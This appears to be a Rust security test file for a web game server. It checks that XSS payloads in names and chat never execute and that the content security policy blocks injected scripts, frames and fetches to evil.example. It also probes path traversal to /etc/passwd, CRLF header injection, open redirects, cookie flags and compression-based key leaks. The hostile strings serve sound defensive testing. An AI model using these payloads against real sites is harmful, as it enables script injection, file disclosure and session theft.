//! Attacks on the pages, one test each; those that need a browser's mind run in a real Chromium. The table of all of them is
//! in docs/security.md.

#[expect(dead_code, reason = "each test uses its own part of this")]
#[path = "support/chromium.rs"]
mod chromium;
#[expect(dead_code, reason = "each test uses its own part of this")]
#[path = "support/house.rs"]
mod common;
#[expect(dead_code, reason = "each test uses its own part of this")]
#[path = "support/visit.rs"]
mod visit;

use axum::body::Body;
use axum::http::{Request, header};
use chromium::DESKTOP;
use common::{Browser, house};
use court_server::{GuardSettings, api, protect};
use tower::ServiceExt;
use visit::{Person, listen};

/// What would run, and leave a mark, if it came into a page as it is.
const SCRIPTS: &[&str] = &[
    "<script>hit=1</script>",
    "<img src=x onerror=hit=1>",
    "<svg onload=hit=1>",
    "'\"><svg/onload=hit=1>",
    "</title><script>hit=1//",
    "</script><script>hit=1//",
    "</textarea><img src onerror=hit=1>",
    "<a href=javascript:hit=1>come</a>",
    "javascript:hit=1",
    "{{hit=1}}${hit=1}<%hit=1%>",
    "@1<iframe srcdoc=x onload=hit=1>",
    "&lt;script&gt;hit=1&lt;/script&gt;",
];

#[tokio::test(flavor = "multi_thread")]
async fn scripts_in_names_chat_and_contributions_never_run() {
    let person = Person::new(DESKTOP, listen(&house().await).await).await;
    let browser = &person.browser;
    for pair in SCRIPTS.chunks(2) {
        let (one, two) = (pair[0], pair[pair.len() - 1]);
        // The values go in as values: the form itself is not what is tested.
        let fields = serde_json::json!({"count": "2", "name1": one, "name2": two, "seat2": "same-screen", "contribution": one, "public": true});
        person.open_table("louis-xiv", &fields.to_string()).await;
        let table = person.at().await;
        for seat in 1..=2 {
            person.goto(&format!("{table}?seat={seat}")).await;
            let chat = serde_json::json!(SCRIPTS);
            browser
                .run(&format!(
                    "for (const text of {chat}) {{ const body = new URLSearchParams({{ seat: {seat}, text }}); fetch('{table}/chat', {{ method: 'POST', body }}); }}"
                ))
                .await;
        }
        // They are there to be read, as text.
        person.goto(&format!("{table}?seat=1")).await;
        browser
            .until(
                "the chat",
                &format!(
                    "document.body.textContent.includes({})",
                    serde_json::json!(SCRIPTS[11])
                ),
            )
            .await;
        let shown = browser
            .run(&format!("return [document.body.textContent.includes({}), document.querySelectorAll('main script, main iframe, img[src=x]').length]", serde_json::json!(one)))
            .await;
        assert_eq!(shown, serde_json::json!([true, 0]), "{one}");
        for page in [
            "/",
            "/mine",
            &format!("{table}/fairness"),
            &format!("{table}?seat=2"),
        ] {
            person.goto(page).await;
            assert!(
                browser.run("return window.hit ?? null").await.is_null(),
                "{one} or {two} ran on {page}"
            );
        }
    }
    // Text that was let through as it is would have been held up by the policy, and complained about.
    let complaints = browser.complaints();
    assert!(
        !complaints
            .iter()
            .any(|text| text.contains("Content Security Policy")),
        "{complaints:?}"
    );
    person.browser.quit().await;
}

/// The second wall: even a script that got into a page does not run.
#[tokio::test(flavor = "multi_thread")]
async fn a_script_that_got_into_a_page_is_held_up_by_the_policy() {
    let person = Person::new(DESKTOP, listen(&house().await).await).await;
    person.goto("/").await;
    let browser = &person.browser;
    for (what, markup) in [
        (
            "a script",
            "const s = document.createElement('script'); s.textContent = 'hit=1'; document.body.append(s)",
        ),
        (
            "a handler",
            "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=hit=1>')",
        ),
        (
            "a picture's handler",
            "document.body.insertAdjacentHTML('beforeend', '<svg onload=hit=1></svg>')",
        ),
        (
            "another site's script",
            "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
        ),
        (
            "a script's address",
            "document.body.insertAdjacentHTML('beforeend', '<a id=bad href=\"javascript:hit=1\">x</a>'); document.getElementById('bad').click()",
        ),
        (
            "a frame",
            "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"https://evil.example/\"></iframe>')",
        ),
        ("a message home", "fetch('https://evil.example/').catch(() => {})"),
    ] {
        browser.complaints();
        browser.run(markup).await;
        // Until the browser has said that it was held up.
        let (begun, mut held) = (std::time::Instant::now(), Vec::new());
        while !held
            .iter()
            .any(|text: &String| text.contains("Content Security Policy"))
        {
            assert!(begun.elapsed() < chromium::HANGS, "{what}: {held:?}");
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
            held.extend(browser.complaints());
        }
        assert!(
            browser.run("return window.hit ?? null").await.is_null(),
            "{what} ran"
        );
    }
    person.browser.quit().await;
}

#[tokio::test]
async fn nobody_plays_for_anothers_seat_with_forms() {
    let house = house().await;
    let (mut host, mut stranger) = (Browser::new(&house), Browser::new(&house));
    let form = [
        ("game", "louis-xiv"),
        ("count", "3"),
        ("public", "yes"),
        ("name1", "Ada"),
    ];
    host.post("/tables", &form).await;
    let table = host.at().to_owned();
    let (_, page) = host.wait_for_turn(&table).await;
    let (decision, seat) = common::fields(&page);
    let action = common::offers(&page).swap_remove(0);
    let play = [
        ("decision", decision.as_str()),
        ("seat", seat.as_str()),
        ("action", action.as_str()),
    ];
    for (path, form) in [
        ("act", &play[..]),
        ("chat", &[("seat", "1"), ("text", "it is me")]),
        ("undo", &[("seat", "1")]),
        ("takeback", &[("seat", "1")]),
        ("agree", &[("seat", "1"), ("agree", "yes")]),
        ("bot", &[("seat", "1")]),
        ("return", &[("seat", "1")]),
        ("hint", &[("seat", "1")]),
        ("start", &[("fill", "page")]),
        ("close", &[]),
        ("rematch", &[]),
    ] {
        let (status, page) = stranger.post(&format!("{table}/{path}"), form).await;
        assert_eq!(status, 403, "{path}: {page}");
    }
    let (_, after) = host.get(&table).await;
    assert_eq!(
        common::fields(&after),
        (decision.clone(), seat.clone()),
        "nothing has happened"
    );
    assert!(!after.contains("it is me"));
    assert_eq!(host.post(&format!("{table}/act"), &play).await.0, 200);
}

/// The cookies of an answer to a first visit with these headers.
async fn cookies(guard: &GuardSettings, headers: &[(&str, &str)]) -> Vec<String> {
    let house = house().await;
    let router = api(&house.hub).merge(court_web::router(house.hub.clone()));
    let mut request = Request::builder()
        .method("POST")
        .uri("/games/louis-xiv/play-now")
        .header(header::HOST, "court.test")
        .header("sec-fetch-site", "same-origin")
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded");
    for (name, value) in headers {
        request = request.header(*name, *value);
    }
    let request = request.body(Body::empty()).expect("a request");
    let answer = protect(router, &house.hub, guard)
        .oneshot(request)
        .await
        .expect("an answer");
    let cookies = answer.headers().get_all(header::SET_COOKIE).iter();
    cookies
        .map(|cookie| cookie.to_str().expect("text").to_owned())
        .collect()
}

#[tokio::test]
async fn cookies_are_for_the_server_alone_and_for_https_where_visitors_come_by_it() {
    let plain = GuardSettings::UNLIMITED;
    let proxied = GuardSettings {
        behind_proxy: true,
        ..plain
    };
    let https = GuardSettings { https: true, ..plain };
    for (guard, headers, secure) in [
        (&plain, &[][..], false),
        // Without a proxy anybody can say this.
        (&plain, &[("x-forwarded-proto", "https")], false),
        (&proxied, &[("x-forwarded-proto", "https")], true),
        (&proxied, &[("x-forwarded-proto", "http")], false),
        // What the visitor wrote stands before what the proxy wrote.
        (&proxied, &[("x-forwarded-proto", "https, http")], false),
        (&https, &[], true),
    ] {
        let cookies = cookies(guard, headers).await;
        assert!(!cookies.is_empty());
        for cookie in cookies {
            assert!(
                cookie.contains("; HttpOnly") && cookie.contains("; SameSite=Lax"),
                "{cookie}"
            );
            assert_eq!(cookie.contains("; Secure"), secure, "{headers:?}: {cookie}");
        }
    }
}

#[tokio::test]
async fn tricks_with_paths_of_pages_lead_nowhere_and_to_no_other_site() {
    let house = house().await;
    let mut browser = Browser::new(&house);
    browser.post("/games/louis-xiv/play-now", &[]).await;
    let table = browser.at().to_owned();
    for path in [
        "/assets/../../Cargo.toml".to_owned(),
        "/assets/..%2f..%2fCargo.toml".to_owned(),
        "/assets/%2e%2e/%2e%2e/etc/passwd".to_owned(),
        "/rules/..%2f..%2fREADME".to_owned(),
        "/table/%00".to_owned(),
        "/table/..%2f..".to_owned(),
        format!("{table}/replay%2f..%2f.."),
        "/%0d%0aset-cookie:x=1".to_owned(),
        "/%ff".to_owned(),
    ] {
        let (status, page) = browser.get(&path).await;
        assert_eq!(status, 404, "{path}: {page}");
        assert!(!page.contains("root:") && !page.contains("[workspace]"), "{path}");
    }
    // Where one came from is told by the visitor; one goes back to a page of this server.
    for from in [
        "https://evil.example/x",
        "https://court.test//evil.example/x",
        "https://court.test/\\evil.example/x",
        "//evil.example",
        "javascript:hit=1",
    ] {
        let request = Request::builder()
            .method("POST")
            .uri("/settings")
            .header(header::HOST, "court.test")
            .header("sec-fetch-site", "same-origin")
            .header(header::REFERER, from)
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
            .body(Body::from("theme=dark"))
            .expect("a request");
        let answer = house.router.clone().oneshot(request).await.expect("an answer");
        let to = answer.headers()[header::LOCATION]
            .to_str()
            .expect("text")
            .to_owned();
        assert!(
            to.starts_with('/') && !to.starts_with("//") && !to.contains('\\'),
            "{from} leads to {to}"
        );
    }
}

/// A page as a browser gets it that takes compressed ones, and whether it came compressed.
async fn fetched(browser: &Browser, router: &axum::Router, path: &str, script: bool) -> (String, bool) {
    let mut request = Request::builder()
        .uri(path)
        .header(header::HOST, "court.test")
        .header(header::ACCEPT_ENCODING, "gzip")
        .header(header::COOKIE, browser.cookie_line());
    if script {
        request = request.header("x-court", "1");
    }
    let request = request.body(Body::empty()).expect("a request");
    let answer = router.clone().oneshot(request).await.expect("an answer");
    let compressed = answer.headers().contains_key(header::CONTENT_ENCODING);
    let bytes = axum::body::to_bytes(answer.into_body(), usize::MAX)
        .await
        .expect("a body");
    let mut text = String::new();
    if compressed {
        let mut unpacked = flate2::read::GzDecoder::new(&*bytes);
        std::io::Read::read_to_string(&mut unpacked, &mut text).expect("text");
    } else {
        text = String::from_utf8(bytes.to_vec()).expect("text");
    }
    (text, compressed)
}

/// Who can see how long answers are and can say something at the table would find out a key that is compressed together
/// with what was said, letter by letter.
#[tokio::test]
async fn no_key_is_compressed_together_with_what_others_have_written() {
    let house = house().await;
    let router = protect(
        court_web::router(house.hub.clone()).merge(api(&house.hub)),
        &house.hub,
        &GuardSettings::UNLIMITED,
    );
    let (mut host, mut guest) = (Browser::new(&house), Browser::new(&house));
    let form = [
        ("game", "louis-xiv"),
        ("count", "2"),
        ("seat2", "invited"),
        ("name2", "Bea"),
    ];
    host.post("/tables", &form).await;
    let table = host.at().to_owned();
    let (page, compressed) = fetched(&host, &router, &table, false).await;
    assert!(page.contains("/seat/") && !compressed, "the links to give away");
    let invitation = page
        .split("/seat/")
        .nth(1)
        .and_then(|rest| rest.split('"').next());
    let invitation = format!("{table}/seat/{}", invitation.expect("an invitation"));
    let (page, compressed) = fetched(&guest, &router, &invitation, false).await;
    assert!(page.contains("Sit down") && !compressed, "the invitation");
    guest.get(&invitation).await;
    let key = invitation.rsplit('/').next().expect("a key");
    guest
        .post(&format!("{table}/join"), &[("key", key), ("name", "Bea")])
        .await;
    let mut seen = (0, 0);
    for browser in [&host, &guest] {
        let keys = browser.keys();
        assert!(!keys.is_empty());
        for (path, script) in [
            ("", false),
            ("", true),
            ("/links", false),
            ("/replay", false),
            ("/fairness", false),
        ] {
            let (page, compressed) = fetched(browser, &router, &format!("{table}{path}"), script).await;
            let holds_key = keys.iter().any(|key| page.contains(key.as_str()));
            assert!(!(holds_key && compressed), "{path}: a key in a compressed page");
            seen = (seen.0 + u32::from(holds_key), seen.1 + u32::from(compressed));
        }
    }
    assert!(
        seen.0 == 2 && seen.1 >= 4,
        "{seen:?}: only the pages of links hold keys, and tables come compressed"
    );
}
